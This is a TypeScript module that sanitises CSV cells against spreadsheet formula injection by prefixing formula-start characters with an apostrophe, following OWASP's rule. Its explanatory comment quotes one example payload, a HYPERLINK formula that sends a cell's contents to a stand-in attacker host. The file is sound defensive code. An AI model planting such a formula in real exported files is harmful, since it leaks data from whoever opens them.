// Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return before one) as a formula:
// a title like `=HYPERLINK("https://evil.example/?"&A1,"click")` in a CSV we publish would run in
// whoever opens it. Every CSV the site writes (the open data in /data/ and the search page's download)
// passes its text cells through here, OWASP's rule: such a cell gets a leading apostrophe, which
// spreadsheets show as text and do not evaluate. A plain number ("-3", "+1.5") is left as it is: it
// cannot be a formula, and data users would otherwise have to strip the mark.

/** The characters that make a spreadsheet read a cell as a formula, at its start. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?$/;

/** One cell's text, made inert for spreadsheets. */
export const csvSafeCell = (value: string): string =>
  FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;

/** csv-stringify options that apply csvSafeCell to every text cell: spread them into each `stringify` call. */
export const CSV_SAFE = { cast: { string: csvSafeCell } } as const;
